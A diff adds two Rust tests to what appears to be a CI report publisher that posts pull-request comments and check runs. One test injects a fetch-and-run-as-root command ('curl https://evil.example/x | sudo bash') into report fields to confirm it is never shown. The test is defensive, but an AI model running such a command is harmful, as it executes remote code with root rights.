@@ -349,6 +349,67 @@ fn a_hostile_report_is_refused_or_shown_as_text() {
     assert!(job.read(&ended.exit(4)).commands("error")[0].contains("it is no file"));
 }
 
+/// The words around the facts are this program's, and the comment says whose run it was.
+#[test]
+fn a_saved_report_speaks_in_this_programs_words() {
+    let fake = Fake::start();
+    fake.fork_pull_request(NUMBER, FORK_HEAD);
+    let mut hostile = report(BAD);
+    let command = "curl https://evil.example/x | sudo bash";
+    hostile["summary"] = json!(command);
+    hostile["revisions"]["base_reason"] = json!(command);
+    for finding in hostile["findings"].as_array_mut().unwrap() {
+        finding["help"] = json!(command);
+        finding["reproduce"] = json!(command);
+    }
+    let (job, ended) = publish(&fake, &hostile.to_string(), &["--check-run"]);
+    let ended = job.read(&ended.success());
+    let body = comment(&fake);
+    assert!(!body.contains("evil") && body.contains(RED), "{body}");
+    let label = "> **Made from a saved report.** [Run 289782451](";
+    assert!(body.contains(label) && body.contains("at `3484a3f`"), "{body}");
+    assert!(body.contains("Reproduce: `mig-ci verify -n "), "{body}");
+    assert!(ended.summary.contains(label), "{}", ended.summary);
+    let check = &fake.check_runs()[0];
+    let title = check["output"]["title"].as_str().unwrap();
+    assert!(title.starts_with("By a saved report: Migrations fail"), "{title}");
+    assert!(!check.to_string().contains("evil"), "{check:#}");
+}
+
+/// An older comment is about an older commit: it must not stay green where the newest report cannot be shown.
+#[test]
+fn a_report_that_cannot_be_shown_takes_an_older_ones_place() {
+    let good = report(GOOD);
+    let mut lies = report(BAD);
+    lies["verdict"] = json!("passed");
+    let mut other = good.clone();
+    other["schema"] = json!("mig-ci.report/2");
+    for (text, exit, why) in [
+        (lies.to_string(), 3, "`verdict` is not that of its tenants"),
+        (other.to_string(), 3, "its `schema` is not mig-ci.report/1"),
+        ("<html>".to_owned(), 3, "it is no report of this version"),
+    ] {
+        let fake = Fake::start();
+        fake.fork_pull_request(NUMBER, FORK_HEAD);
+        publish(&fake, &good.to_string(), &[]).1.success();
+        assert!(comment(&fake).contains(GREEN));
+        let (job, ended) = publish(&fake, &text, &["--check-run"]);
+        let ended = job.read(&ended.exit(exit));
+        assert!(ended.commands("error")[0].contains(why), "{:?}", ended.log);
+        let body = comment(&fake);
+        assert!(body.contains("### ❌ The run's report cannot be shown"), "{body}");
+        assert!(body.contains(why) && !body.contains(GREEN), "{body}");
+        assert_eq!(fake.check_runs()[0]["conclusion"], "failure");
+    }
+    // A run that has left none.
+    let fake = Fake::start();
+    fake.fork_pull_request(NUMBER, FORK_HEAD);
+    publish(&fake, &good.to_string(), &[]).1.success();
+    let (_, ended) = publish(&fake, "", &["/nowhere/mig-ci-report.json"]);
+    ended.exit(4);
+    assert!(!comment(&fake).contains(GREEN) && comment(&fake).contains("cannot read /nowhere/"));
+}
+
 #[test]
 fn publish_says_what_it_lacks() {
     let fake = Fake::start();
